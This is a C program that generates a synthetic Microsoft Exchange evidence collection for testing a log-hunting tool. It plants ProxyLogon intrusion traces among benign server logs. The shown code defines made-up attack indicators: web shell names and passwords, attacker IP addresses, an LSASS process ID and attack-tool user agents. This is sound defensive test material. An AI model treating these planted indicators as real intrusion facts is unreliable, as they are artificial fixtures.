/*
 * exgen - writes a made-up but realistic evidence collection from a Microsoft
 * Exchange 2016 server (EXCH01, CONTOSO / contoso.local, public name
 * mail.contoso.com) for testing and benchmarking exhunt.  It produces weeks of
 * benign IIS (W3SVC1 front end, W3SVC2 back end) and Exchange HttpProxy
 * traffic, ECP Server, OAB generator and Remote PowerShell cmdlet logs, and a
 * small web root, with the traces of a March 2021 ProxyLogon (HAFNIUM-style)
 * intrusion planted at fixed times among the benign lines: SSRF requests to
 * /ecp/y.js, the OAB virtual directory abuse that drops a web shell, web shell
 * use, a second actor, the security update and the later mass scanning.  The
 * intrusion is the same for every seed; the benign traffic depends on the seed
 * only, and the output is byte-for-byte reproducible (own PRNG, no clock).
 * A small default collection is committed as sample evidence; the same program
 * writes multi-GB corpora for benchmarks, so the hot paths format lines by hand
 * into large per-file buffers instead of using stdio formatting.
 * The marker files it writes (web shells, dumps) are inert text or random bytes.
 */
#define _POSIX_C_SOURCE 200809L

#include <dirent.h>
#include <errno.h>
#include <inttypes.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/types.h>
#include <fcntl.h>
#include <time.h>

/* ------------------------------------------------------------------------ */
/* Constants describing the simulated environment                            */
/* ------------------------------------------------------------------------ */

#define MS_HOUR 3600000LL
#define MS_DAY 86400000LL

#define SRV_IP "10.10.1.5"
#define HOST_PUB "mail.contoso.com"
#define HOST_FQDN "exch01.contoso.local"
#define XROOT "C/Program Files/Microsoft/Exchange Server/V15/"
#define XROOT_WIN "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\"

/* The intrusion is fixed (same in every seed), so its names are constants. */
#define SHELL1 "bZ4nQx7LkT2mWc9R" /* OAB web shell in owa/auth, 16 chars */
#define SHELL2 "Xq7hT2pL"         /* China Chopper in aspnet_client, 8 chars */
#define SHELL1_PW "klk123456"
#define SHELL2_PW "XcJ72hGd"
#define OABVD_GUID "982d48c8-8bfa-4b6b-b431-53fd7ea4e9b3"
#define ATK_CANARY                                                             \
	"RkVkaXJlY3RpbmdfQ2FuYXJ5X3Zhb_QwLXpKQ1lYb0dHN2lMcFpTd0FmM2tqTmZ1dWQ1Z3" \
	"c4Lw."
#define ACTOR_A "104.250.191.110"
#define ACTOR_B "139.162.202.236"
#define LSASS_PID "668"
#define SHELL1_UNC                                                             \
	"\\\\127.0.0.1\\c$\\Program Files\\Microsoft\\Exchange Server\\V15\\"      \
	"FrontEnd\\HttpProxy\\owa\\auth\\" SHELL1 ".aspx"

#define NUSERS 30
#define LINE_RESERVE 16384 /* longest line any writer produces, with margin */
#define OUT_CAP (1u << 20) /* per-file write buffer */
#define MAX_DAYS 3650

/* Exchange protocols with HttpProxy log folders. */
enum { P_OWA, P_ECP, P_EWS, P_MAPI, P_AUTOD, P_EAS, P_PS, P_RPC, P_OAB, P_N };
static const char *const PROTO_NAME[P_N] = {"Owa", "Ecp", "Ews", "Mapi", "Autodiscover",
                                            "Eas", "PowerShell", "RpcHttp", "Oab"};

/* Kinds of files written, for the manifest and the --target-bytes test. */
enum { K_IIS1, K_IIS2, K_HP, K_ECP, K_OAB, K_RPS, K_OTHER, K_N };
static const char *const KIND_NAME[K_N] = {"iis-w3svc1", "iis-w3svc2", "httpproxy", "ecp-server",
                                           "oab-generator", "rps-cmdlet", "other"};

enum { L_TREE, L_KAPE, L_VELO };
enum { ONLY_ALL, ONLY_IIS, ONLY_HP };
/* Option names, in the order of the enums above (NULL-terminated for pick()). */
static const char *const LAYOUT[] = {"tree", "kape", "velociraptor", NULL};
static const char *const ONLY[] = {"all", "iis", "httpproxy", NULL};

/* ------------------------------------------------------------------------ */
/* Small string helpers                                                      */
/* ------------------------------------------------------------------------ */

typedef struct {
	const char *s;
	size_t n;
} Str;

#define SL(lit) ((Str){(lit), sizeof(lit) - 1})
#define S0 ((Str){"", 0})

static inline Str sz(const char *s) { return (Str){s, strlen(s)}; }

/* Appenders: each writes at p and returns the new end.  Callers reserve
 * LINE_RESERVE bytes up front, so none of them checks capacity. */
static inline char *ps(char *p, Str s)
{
	memcpy(p, s.s, s.n);
	return p + s.n;
}
static inline char *pz(char *p, const char *s) { return ps(p, sz(s)); }
#define PL(p, lit) ps((p), SL(lit))

static char D2[200]; /* "00".."99" */

static inline char *p2(char *p, unsigned v)
{
	memcpy(p, D2 + 2 * v, 2);
	return p + 2;
}
static inline char *p3(char *p, unsigned v)
{
	*p++ = (char)('0' + v / 100);
	return p2(p, v % 100);
}
static inline char *p4(char *p, unsigned v)
{
	p = p2(p, v / 100);
	return p2(p, v % 100);
}
static char *pu(char *p, uint64_t v)
{
	char t[24];
	int n = 0;
	do {
		t[n++] = (char)('0' + v % 10);
		v /= 10;
	} while (v);
	while (n)
		*p++ = t[--n];
	return p;
}
static const char HEXL[] = "0123456789abcdef";
static const char HEXU[] = "0123456789ABCDEF";

static char *phex(char *p, uint64_t v, int digits, const char *alpha)
{
	for (int i = digits - 1; i >= 0; i--)
		p[digits - 1 - i] = alpha[(v >> (4 * i)) & 15];
	return p + digits;
}

/* Random v4-looking GUID, 8-4-4-4-12 lower case. */
static char *pguid_a(char *p, uint64_t hi, uint64_t lo, const char *alpha)
{
	hi = (hi & ~0xF000ULL) | 0x4000ULL;                          /* version 4 */
	lo = (lo & 0x3FFFFFFFFFFFFFFFULL) | 0x8000000000000000ULL; /* variant */
	p = phex(p, hi >> 32, 8, alpha);
	*p++ = '-';
	p = phex(p, (hi >> 16) & 0xFFFF, 4, alpha);
	*p++ = '-';
	p = phex(p, hi & 0xFFFF, 4, alpha);
	*p++ = '-';
	p = phex(p, lo >> 48, 4, alpha);
	*p++ = '-';
	return phex(p, lo & 0xFFFFFFFFFFFFULL, 12, alpha);
}
static inline char *pguid(char *p, uint64_t hi, uint64_t lo) { return pguid_a(p, hi, lo, HEXL); }

/* CSV field: quoted with "" doubling when it holds a comma, quote or line break. */
static char *csv_field(char *p, Str s)
{
	bool q = false;
	for (size_t i = 0; i < s.n; i++) {
		char c = s.s[i];
		if (c == ',' || c == '"' || c == '\r' || c == '\n') {
			q = true;
			break;
		}
	}
	if (!q)
		return ps(p, s);
	*p++ = '"';
	for (size_t i = 0; i < s.n; i++) {
		if (s.s[i] == '"')
			*p++ = '"';
		*p++ = s.s[i];
	}
	*p++ = '"';
	return p;
}
static char *csv_join(char *p, const Str *v, int n)
{
	for (int i = 0; i < n; i++) {
		if (i)
			*p++ = ',';
		p = csv_field(p, v[i]);
	}
	return p;
}

/* ------------------------------------------------------------------------ */
/* PRNG: xoshiro256** seeded through splitmix64                              */
/* ------------------------------------------------------------------------ */

typedef struct {
	uint64_t s[4];
} Rng;

static inline uint64_t splitmix64(uint64_t *x)
{
	uint64_t z = (*x += 0x9e3779b97f4a7c15ULL);
	z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ULL;
	z = (z ^ (z >> 27)) * 0x94d049bb133111ebULL;
	return z ^ (z >> 31);
}
static inline uint64_t mix3(uint64_t a, uint64_t b, uint64_t c)
{
	uint64_t x = a ^ (b * 0x9e3779b97f4a7c15ULL);
	uint64_t h = splitmix64(&x);
	x = h ^ (c * 0xc2b2ae3d27d4eb4fULL);
	return splitmix64(&x);
}
static void rng_seed(Rng *r, uint64_t seed)
{
	uint64_t x = seed;
	for (int i = 0; i < 4; i++)
		r->s[i] = splitmix64(&x);
}
static inline uint64_t rotl(uint64_t x, int k) { return (x << k) | (x >> (64 - k)); }
static inline uint64_t rnext(Rng *r)
{
	uint64_t *s = r->s;
	uint64_t res = rotl(s[1] * 5, 7) * 9, t = s[1] << 17;
	s[2] ^= s[0];
	s[3] ^= s[1];
	s[1] ^= s[2];
	s[0] ^= s[3];
	s[2] ^= t;
	s[3] = rotl(s[3], 45);
	return res;
}
/* Uniform in [0, n) (multiply-shift; the bias is irrelevant here). */
static inline uint32_t rbelow(Rng *r, uint32_t n) { return (uint32_t)(((rnext(r) >> 32) * n) >> 32); }
static inline uint32_t rrange(Rng *r, uint32_t lo, uint32_t hi) { return lo + rbelow(r, hi - lo + 1); }
static inline bool rpm(Rng *r, uint32_t permille) { return rbelow(r, 1000) < permille; }
#define PICK(r, arr) ((arr)[rbelow((r), (uint32_t)(sizeof(arr) / sizeof((arr)[0])))])

/* ------------------------------------------------------------------------ */
/* Calendar (proleptic Gregorian, days since 1970-01-01)                     */
/* ------------------------------------------------------------------------ */

static int64_t days_from_civil(int y, unsigned m, unsigned d)
{
	y -= m <= 2;
	const int64_t era = (y >= 0 ? y : y - 399) / 400;
	const unsigned yoe = (unsigned)(y - era * 400);
	const unsigned doy = (153 * (m > 2 ? m - 3 : m + 9) + 2) / 5 + d - 1;
	const unsigned doe = yoe * 365 + yoe / 4 - yoe / 100 + doy;
	return era * 146097 + (int64_t)doe - 719468;
}
static void civil_from_days(int64_t z, int *y, unsigned *m, unsigned *d)
{
	z += 719468;
	const int64_t era = (z >= 0 ? z : z - 146096) / 146097;
	const unsigned doe = (unsigned)(z - era * 146097);
	const unsigned yoe = (doe - doe / 1460 + doe / 36524 - doe / 146096) / 365;
	const unsigned doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
	const unsigned mp = (5 * doy + 2) / 153;
	*d = doy - (153 * mp + 2) / 5 + 1;
	*m = mp < 10 ? mp + 3 : mp - 9;
	*y = (int)((int64_t)yoe + era * 400 + (*m <= 2));
}
static int64_t ms_at(int y, unsigned mo, unsigned d, unsigned h, unsigned mi, unsigned s, unsigned ms)
{
	return days_from_civil(y, mo, d) * MS_DAY + (int64_t)h * MS_HOUR + mi * 60000LL + s * 1000LL + ms;
}

/* The current day's "YYYY-MM-DD", cached because nearly every line needs it. */
static int64_t ymd_day = -1;
static char ymd_txt[10];

static char *p_ymd(char *p, int64_t day)
{
	if (day != ymd_day) {
		int y;
		unsigned m, d;
		civil_from_days(day, &y, &m, &d);
		char *q = ymd_txt;
		q = p4(q, (unsigned)y);
		*q++ = '-';
		q = p2(q, m);
		*q++ = '-';
		p2(q, d);
		ymd_day = day;
	}
	memcpy(p, ymd_txt, 10);
	return p + 10;
}
static char *p_hms(char *p, uint32_t msod)
{
	uint32_t s = msod / 1000;
	p = p2(p, s / 3600);
	*p++ = ':';
	p = p2(p, (s / 60) % 60);
	*p++ = ':';
	return p2(p, s % 60);
}
/* IIS "YYYY-MM-DD HH:MM:SS" */
static char *p_iisdt(char *p, int64_t t)
{
	int64_t day = t / MS_DAY;
	p = p_ymd(p, day);
	*p++ = ' ';
	return p_hms(p, (uint32_t)(t - day * MS_DAY));
}
/* Exchange "YYYY-MM-DDTHH:MM:SS.mmmZ" */
static char *p_iso(char *p, int64_t t)
{
	int64_t day = t / MS_DAY;
	uint32_t msod = (uint32_t)(t - day * MS_DAY);
	p = p_ymd(p, day);
	*p++ = 'T';
	p = p_hms(p, msod);
	*p++ = '.';
	p = p3(p, msod % 1000);
	*p++ = 'Z';
	return p;
}
/* "YYYYMMDD" and the two-digit-year variant for file names. */
static void fmt_compact(char *dst, size_t cap, int64_t day, bool two_digit_year)
{
	int y;
	unsigned m, d;
	civil_from_days(day, &y, &m, &d);
	if (two_digit_year)
		snprintf(dst, cap, "%02d%02u%02u", y % 100, m, d);
	else
		snprintf(dst, cap, "%04d%02u%02u", y, m, d);
}

/* ------------------------------------------------------------------------ */
/* Errors                                                                    */
/* ------------------------------------------------------------------------ */

static void die_usage(const char *msg, const char *arg)
{
	fprintf(stderr, "exgen: %s%s%s\nTry 'exgen --help'.\n", msg, arg ? ": " : "", arg ? arg : "");
	exit(2);
}

/* Index of val in a NULL-terminated list of names, -1 if absent. */
static int pick(const char *val, const char *const *names)
{
	for (int i = 0; names[i]; i++)
		if (!strcmp(val, names[i]))
			return i;
	return -1;
}
static void die_io(const char *what, const char *path)
{
	fprintf(stderr, "exgen: %s %s: %s\n", what, path, strerror(errno));
	exit(1);
}
static void *xrealloc(void *p, size_t n)
{
	void *q = realloc(p, n);
	if (!q) {
		fprintf(stderr, "exgen: out of memory\n");
		exit(1);
	}
	return q;
}
static char *xstrdup(const char *s)
{
	size_t n = strlen(s) + 1;
	char *d = xrealloc(NULL, n);
	memcpy(d, s, n);
	return d;
}

/* ------------------------------------------------------------------------ */
/* Output files                                                              */
/* ------------------------------------------------------------------------ */

typedef struct {
	char *path; /* relative to OUTDIR, as on disk */
	int kind;
	uint64_t bytes, data, hdr;
	int64_t first, last; /* epoch ms of first / last data line, -1 if none */
	int64_t mtime;       /* epoch ms set as the file's modification time, -1 if left alone */
} FileRec;

typedef struct {
	FILE *f;
	char *buf;
	size_t n;
	int rec; /* index into G.recs while open, else -1 */
} Out;

typedef struct {
	int64_t t;
	const char *stage, *desc, *actor;
	int rec;
	uint64_t line;
} TlEntry;

static struct {
	/* options */
	uint64_t seed, rate, target;
	int64_t start_day;
	uint32_t days;
	bool target_set, force;
	int only, layout;
	const char *outdir, *manifest;
	bool want_iis, want_hp, want_misc;
	/* generation state */
	bool patched;
	int iis1_fields; /* 0 standard, 1 extended */
	int hp_gen;      /* HttpProxy/Rps file generation suffix for this hour */
	int64_t day, hour_start, last_t;
	uint32_t days_done;
	Out o_iis1, o_iis2, o_ecp, o_oab, o_rps, o_hp[P_N];
	FileRec *recs;
	size_t nrecs, caprecs;
	uint64_t kbytes[K_N];
	TlEntry *tl;
	size_t ntl, captl;
	const void *cur_atk; /* attack event being written, for the timeline */
	char lastdir[4096];
	uint64_t *keys, *keys2; /* this hour's requests, see sort_keys */
	size_t kcap;
	void *sess; /* this hour's sessions (Sess) */
	size_t scap;
} G;

/* Logical path (C/...) to the path below OUTDIR for the chosen layout. */
static void disk_rel(char *dst, size_t cap, const char *logical)
{
	size_t n = 0;
	const char *s = logical;
	if (G.layout == L_VELO) {
		static const char pre[] = "uploads/auto/C%3A";
		memcpy(dst, pre, sizeof pre - 1);
		n = sizeof pre - 1;
		s = logical + 1; /* skip the drive letter "C" */
	}
	for (; *s && n + 4 < cap; s++) {
		if (G.layout == L_VELO && *s == ' ') {
			memcpy(dst + n, "%20", 3);
			n += 3;
		} else {
			dst[n++] = *s;
		}
	}
	dst[n] = 0;
}

static void full_path(char *dst, size_t cap, const char *rel)
{
	int k = snprintf(dst, cap, "%s/%s", G.outdir, rel);
	if (k < 0 || (size_t)k >= cap) {
		fprintf(stderr, "exgen: path too long: %s/%s\n", G.outdir, rel);
		exit(1);
	}
}

/* mkdir -p for every directory component of path (up to the last '/'). */
static void mkdirs_for(const char *path, bool include_last)
{
	char tmp[4096];
	size_t n = strlen(path);
	if (n >= sizeof tmp)
		die_io("path too long", path);
	memcpy(tmp, path, n + 1);
	if (!include_last) {
		char *sl = strrchr(tmp, '/');
		if (!sl)
			return;
		*sl = 0;
	}
	if (strcmp(tmp, G.lastdir) == 0)
		return;
	for (char *p = tmp + 1;; p++) {
		if (*p == '/' || *p == 0) {
			char c = *p;
			*p = 0;
			if (mkdir(tmp, 0777) != 0 && errno != EEXIST)
				die_io("cannot create directory", tmp);
			*p = c;
			if (!c)
				break;
		}
	}
	memcpy(G.lastdir, tmp, strlen(tmp) + 1);
}

static int add_rec(const char *rel, int kind)
{
	if (G.nrecs == G.caprecs) {
		G.caprecs = G.caprecs ? G.caprecs * 2 : 256;
		G.recs = xrealloc(G.recs, G.caprecs * sizeof *G.recs);
	}
	FileRec *r = &G.recs[G.nrecs];
	r->path = xstrdup(rel);
	r->kind = kind;
	r->bytes = r->data = r->hdr = 0;
	r->first = r->last = r->mtime = -1;
	return (int)G.nrecs++;
}

static FILE *create_file(const char *logical, int kind, int *rec_out)
{
	char rel[2048], full[4096];
	disk_rel(rel, sizeof rel, logical);
	full_path(full, sizeof full, rel);
	mkdirs_for(full, false);
	FILE *f = fopen(full, "wb");
	if (!f)
		die_io("cannot create", full);
	int rec = add_rec(rel, kind);
	if (rec_out)
		*rec_out = rec;
	return f;
}

static void out_open(Out *o, const char *logical, int kind)
{
	o->f = create_file(logical, kind, &o->rec);
	setvbuf(o->f, NULL, _IONBF, 0); /* we buffer ourselves */
	if (!o->buf)
		o->buf = xrealloc(NULL, OUT_CAP);
	o->n = 0;
}
static void out_flush(Out *o)
{
	if (o->n && fwrite(o->buf, 1, o->n, o->f) != o->n)
		die_io("write error on", G.recs[o->rec].path);
	o->n = 0;
}
static void out_close(Out *o)
{
	if (!o->f)
		return;
	out_flush(o);
	if (fclose(o->f) != 0)
		die_io("close error on", G.recs[o->rec].path);
	o->f = NULL;
	o->rec = -1;
}
/* Start a line: room for LINE_RESERVE bytes. */
static inline char *ob(Out *o)
{
	if (o->n + LINE_RESERVE > OUT_CAP)
		out_flush(o);
	return o->buf + o->n;
}
static void tl_push(int rec, uint64_t line, int64_t t);
/* Finish a line ending at p: data lines carry their timestamp. */
static inline void oe(Out *o, char *p, bool data, int64_t t)
{
	size_t len = (size_t)(p - (o->buf + o->n));
	o->n += len;
	FileRec *r = &G.recs[o->rec];
	r->bytes += len;
	G.kbytes[r->kind] += len;
	if (data) {
		r->data++;
		if (r->first < 0)
			r->first = t;
		r->last = t;
		if (G.cur_atk)
			tl_push(o->rec, r->data + r->hdr, t);
	} else {
		r->hdr++;
	}
}
static void out_raw(Out *o, const char *s, size_t n) /* bytes that are not a line (BOM) */
{
	char *p = ob(o);
	memcpy(p, s, n);
	o->n += n;
	G.recs[o->rec].bytes += n;
	G.kbytes[G.recs[o->rec].kind] += n;
}
static void out_hline(Out *o, Str s, int64_t t)
{
	char *p = ob(o);
	p = ps(p, s);
	p = PL(p, "\r\n");
	oe(o, p, false, t);
}

/* Whole small files (web root, markers, KAPE log). */
static int write_whole(const char *logical_or_rel, bool is_logical, const void *data, size_t n)
{
	char rel[2048], full[4096];
	if (is_logical)
		disk_rel(rel, sizeof rel, logical_or_rel);
	else
		snprintf(rel, sizeof rel, "%s", logical_or_rel);
	full_path(full, sizeof full, rel);
	mkdirs_for(full, false);
	FILE *f = fopen(full, "wb");
	if (!f)
		die_io("cannot create", full);
	if (n && fwrite(data, 1, n, f) != n)
		die_io("write error on", full);
	if (fclose(f) != 0)
		die_io("close error on", full);
	int rec = add_rec(rel, K_OTHER);
	G.recs[rec].bytes = n;
	G.kbytes[K_OTHER] += n;
	return rec;
}

/* Sets a written file's modification (and access) time, as the server would have left
 * it; the manifest lists it. Git does not keep these times: a checkout of the sample
 * evidence has the checkout time, which the report says may happen to copies. */
static void stamp(int rec, int64_t ms)
{
	char full[4096];
	struct timespec ts[2];
	full_path(full, sizeof full, G.recs[rec].path);
	ts[0].tv_sec = ts[1].tv_sec = (time_t)(ms / 1000);
	ts[0].tv_nsec = ts[1].tv_nsec = (long)(ms % 1000) * 1000000L;
	if (utimensat(AT_FDCWD, full, ts, 0) != 0)
		die_io("cannot set the time of", full);
	G.recs[rec].mtime = ms;
}

/* ------------------------------------------------------------------------ */
/* Users, user agents and other pools                                        */
/* ------------------------------------------------------------------------ */

enum {
	UA_NONE,
	UA_OUTLOOK,
	UA_EWSCLIENT,
	UA_MACMAIL,
	UA_ACCOUNTSD,
	UA_CHROME,
	UA_EDGE,
	UA_FIREFOX,
	UA_SAFARI,
	UA_IPHONE,
	UA_IPHONE2,
	UA_ANDROID,
	UA_AMPROBE,
	UA_WINRM,
	UA_MSRPC,
	UA_ZGRAB,
	UA_CENSYS,
	UA_CURL,
	UA_GO,
	UA_NMAP,
	UA_OLDFF,
	UA_BAIDU,
	UA_ESC0,
	UA_PYREQ,
	UA_ANTSWORD,
	UA_FF68,
	UA_N
};
static const char *const UA_RAW[UA_N] = {
    [UA_NONE] = "",
    [UA_OUTLOOK] = "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.13628; Pro)",
    [UA_EWSCLIENT] = "ExchangeServicesClient/15.00.0913.015",
    [UA_MACMAIL] = "Mac OS X/10.15.7 (19H524); ExchangeWebServices/11.0 (3654.40.0.2.1)",
    [UA_ACCOUNTSD] = "accountsd/113 CFNetwork/1220.1 Darwin/20.3.0",
    [UA_CHROME] = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                  "Chrome/88.0.4324.190 Safari/537.36",
    [UA_EDGE] = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                "Chrome/88.0.4324.192 Safari/537.36 Edg/88.0.705.81",
    [UA_FIREFOX] = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:86.0) Gecko/20100101 Firefox/86.0",
    [UA_SAFARI] = "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like "
                  "Gecko) Version/14.0.3 Safari/605.1.15",
    [UA_IPHONE] = "Apple-iPhone12C1/1805.114",
    [UA_IPHONE2] = "Apple-iPhone11C8/1805.114",
    [UA_ANDROID] = "Android-Mail/2021.01.31.357063893.Release",
    [UA_AMPROBE] = "AMProbe/Local/ClientAccess",
    [UA_WINRM] = "Microsoft WinRM Client",
    [UA_MSRPC] = "MSRPC",
    [UA_ZGRAB] = "Mozilla/5.0 zgrab/0.x",
    [UA_CENSYS] = "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
    [UA_CURL] = "curl/7.68.0",
    [UA_GO] = "Go-http-client/1.1",
    [UA_NMAP] = "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    [UA_OLDFF] = "Mozilla/5.0 (Windows NT 6.1; WOW64; rv:40.0) Gecko/20100101 Firefox/40.1",
    [UA_BAIDU] = "Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)",
    [UA_ESC0] = "ExchangeServicesClient/0.0.0.0",
    [UA_PYREQ] = "python-requests/2.25.1",
    [UA_ANTSWORD] = "antSword/v2.1",
    [UA_FF68] = "Mozilla/5.0 (Windows NT 6.1; Win64; x64; rv:68.0) Gecko/20100101 Firefox/68.0",
};
/* IIS form (spaces as '+', empty as '-') and HttpProxy form (commas as spaces). */
static Str UA_IIS[UA_N], UA_HP[UA_N];

typedef struct {
	char sam[24], dom[40], upn[48], ip[16], home[16], phone_ip[16], mbx[40], dev[36], sid[64];
	int browser, phone_ua, ews_ua;
	bool phone, android, owa_home;
} User;

static User USERS[NUSERS];
static char HM1[64], HM1_DOM[80], HM1_SID[64]; /* health mailbox */
static char DOMSID[48];                       /* S-1-5-21-a-b-c */
static char OAB_GUID[40], DB_GUID[40];
static char RPS_UBUDGET[256];

static const char *const FIRST[] = {"james", "mary", "robert", "patricia", "john", "jennifer",
                                    "michael", "linda", "david", "elizabeth", "william", "barbara",
                                    "richard", "susan", "joseph", "jessica", "thomas", "sarah",
                                    "charles", "karen", "daniel", "lisa", "matthew", "nancy",
                                    "anthony", "betty", "mark", "sandra", "paul", "ashley",
                                    "steven", "emily", "andrew", "donna", "kevin", "michelle",
                                    "brian", "carol", "george", "amanda"};
static const char *const LAST[] = {"smith", "johnson", "williams", "brown", "jones", "garcia",
                                   "miller", "davis", "rodriguez", "martinez", "hernandez", "lopez",
                                   "gonzalez", "wilson", "anderson", "thomas", "taylor", "moore",
                                   "jackson", "martin", "lee", "perez", "thompson", "white",
                                   "harris", "sanchez", "clark", "ramirez", "lewis", "robinson",
                                   "walker", "young", "allen", "king", "wright", "scott",
                                   "torres", "nguyen", "hill", "flores"};

/* Public addresses for home users, phones and scanners (no private ranges). */
static void rand_public_ip(Rng *r, char *dst, size_t cap, bool scanner)
{
	static const unsigned home_a[] = {24, 47, 50, 66, 67, 68, 69, 71, 73, 75, 76, 96, 97, 98, 99, 108, 174};
	static const unsigned scan_a[] = {45, 62, 80, 89, 91, 103, 141, 162, 167, 170, 185, 193, 194, 195, 209, 212};
	unsigned a = scanner ? PICK(r, scan_a) : PICK(r, home_a);
	/* one PRNG call per statement: argument evaluation order is unspecified */
	unsigned b = rrange(r, 1, 254);
	unsigned c = rrange(r, 0, 255);
	unsigned d = rrange(r, 1, 254);
	snprintf(dst, cap, "%u.%u.%u.%u", a, b, c, d);
}

static void make_guid(Rng *r, char *dst) /* 37 bytes */
{
	uint64_t hi = rnext(r), lo = rnext(r);
	*pguid(dst, hi, lo) = 0;
}

static void init_tables(void)
{
	for (unsigned i = 0; i < 100; i++) {
		D2[2 * i] = (char)('0' + i / 10);
		D2[2 * i + 1] = (char)('0' + i % 10);
	}
	for (int i = 0; i < UA_N; i++) {
		size_t n = strlen(UA_RAW[i]);
		char *a = xrealloc(NULL, n + 2), *b = xrealloc(NULL, n + 2);
		for (size_t k = 0; k < n; k++) {
			a[k] = UA_RAW[i][k] == ' ' ? '+' : UA_RAW[i][k];
			b[k] = UA_RAW[i][k] == ',' ? ' ' : UA_RAW[i][k];
		}
		if (n == 0) {
			a[0] = '-';
			UA_IIS[i] = (Str){a, 1};
		} else {
			UA_IIS[i] = (Str){a, n};
		}
		UA_HP[i] = (Str){b, n};
	}
}

/* Seed-dependent population: users, their addresses, devices, mailboxes. */
static void init_population(uint64_t seed)
{
	Rng r;
	rng_seed(&r, mix3(seed, 0x5eed, 1));
	unsigned s1 = rrange(&r, 1000000000u, 4000000000u);
	unsigned s2 = rrange(&r, 1000000000u, 4000000000u);
	unsigned s3 = rrange(&r, 100000000u, 999999999u);
	snprintf(DOMSID, sizeof DOMSID, "S-1-5-21-%u-%u-%u", s1, s2, s3);
	char hex[33];
	*phex(hex, rnext(&r), 16, HEXL) = 0;
	phex(hex + 16, rnext(&r), 16, HEXL);
	hex[32] = 0;
	snprintf(HM1, sizeof HM1, "HealthMailbox%s", hex);
	snprintf(HM1_DOM, sizeof HM1_DOM, "CONTOSO\\%s", HM1);
	snprintf(HM1_SID, sizeof HM1_SID, "%s-%u", DOMSID, rrange(&r, 1130, 1140));
	make_guid(&r, OAB_GUID);
	make_guid(&r, DB_GUID);
	snprintf(RPS_UBUDGET, sizeof RPS_UBUDGET,
	         "Owner:Sid~%s~PowerShell~false,Conn:1,MaxConn:18,MaxBurst:-1,Balance:-1,Cutoff:-1,"
	         "RechargeRate:-1,Policy:DefaultThrottlingPolicy_%08x,IsServiceAccount:False,LiveTime:00:00:00",
	         HM1_SID, (unsigned)(rnext(&r) & 0xffffffffu));

	bool used[40][40];
	memset(used, 0, sizeof used);
	bool ipused[64][256];
	memset(ipused, 0, sizeof ipused);
	for (int i = 0; i < NUSERS; i++) {
		User *u = &USERS[i];
		unsigned f, l;
		do {
			f = rbelow(&r, 40);
			l = rbelow(&r, 40);
		} while (used[f][l]);
		used[f][l] = true;
		if (i == 0)
			snprintf(u->sam, sizeof u->sam, "adm-%c%s", FIRST[f][0], LAST[l]);
		else
			snprintf(u->sam, sizeof u->sam, "%c%s", FIRST[f][0], LAST[l]);
		{
			/* a local copy: gcc's -Wrestrict cannot tell the members apart */
			char sam[sizeof u->sam];
			memcpy(sam, u->sam, sizeof sam);
			snprintf(u->dom, sizeof u->dom, "CONTOSO\\%s", sam);
			snprintf(u->upn, sizeof u->upn, "%s@contoso.com", sam);
		}
		unsigned c, d;
		do {
			c = rrange(&r, 2, 40);
			d = rrange(&r, 10, 250);
		} while (ipused[c][d]);
		ipused[c][d] = true;
		snprintf(u->ip, sizeof u->ip, "10.10.%u.%u", c, d);
		rand_public_ip(&r, u->home, sizeof u->home, false);
		rand_public_ip(&r, u->phone_ip, sizeof u->phone_ip, false);
		make_guid(&r, u->mbx);
		uint64_t dv = rnext(&r), dv2 = rnext(&r);
		*phex(phex(u->dev, dv, 16, HEXU), dv2, 16, HEXU) = 0;
		snprintf(u->sid, sizeof u->sid, "%s-%u", DOMSID, 1104 + (unsigned)i * 3 + rbelow(&r, 3));
		static const int browsers[] = {UA_CHROME, UA_CHROME, UA_EDGE, UA_EDGE, UA_FIREFOX, UA_SAFARI};
		u->browser = PICK(&r, browsers);
		u->phone = rpm(&r, 700);
		u->android = rpm(&r, 200);
		if (u->android)
			memcpy(u->dev, "androidc", 8);
		u->phone_ua = u->android ? UA_ANDROID : (rpm(&r, 600) ? UA_IPHONE : UA_IPHONE2);
		static const int ews[] = {UA_OUTLOOK, UA_OUTLOOK, UA_OUTLOOK, UA_EWSCLIENT, UA_MACMAIL, UA_ACCOUNTSD};
		u->ews_ua = PICK(&r, ews);
		u->owa_home = rpm(&r, 300);
	}
}

/* ------------------------------------------------------------------------ */
/* A request and its log lines                                               */
/* ------------------------------------------------------------------------ */

typedef struct {
	int64_t t, t_chal; /* completion time of the request (and of its 401 challenge) */
	const char *method;
	Str stem, query, iis_user, cip, referer, sip, host;
	int ua, proto, port;
	bool proxied, backend, chal, ecp, local;
	int status, substatus;
	uint32_t win32, tt, chal_tt, req_bytes, resp_bytes;
	uint64_t rid_hi, rid_lo, aux;
	Str be_user, be_stem;
	/* HttpProxy */
	Str hp_user, authtype, anchor, rhint, rtype, action, errcode, generr, creqid, target, cookie_srv, dbguid;
	bool isauth;
	int be_status; /* 0 = empty */
	/* ECP Server log */
	Str ecp_cmd, ecp_url;
	/* scratch storage the Strs above point into */
	char b_query[768], b_stem[256], b_anchor[384], b_creq[80], b_ecp[768], b_url[512], b_cip[20], b_target[384];
} Req;

static void req_init(Req *q, Rng *r, int64_t t)
{
	q->t = t;
	q->t_chal = t;
	q->method = "GET";
	q->stem = SL("/");
	q->query = q->iis_user = q->referer = q->be_user = q->be_stem = S0;
	q->cip = SL(SRV_IP);
	q->sip = SL(SRV_IP);
	q->host = SL(HOST_PUB);
	q->ua = UA_NONE;
	q->proto = P_OWA;
	q->port = 443;
	q->proxied = q->backend = q->chal = q->ecp = q->local = false;
	q->status = 200;
	q->substatus = 0;
	q->win32 = 0;
	q->tt = 15;
	q->chal_tt = 0;
	q->req_bytes = 400;
	q->resp_bytes = 1200;
	q->rid_hi = rnext(r);
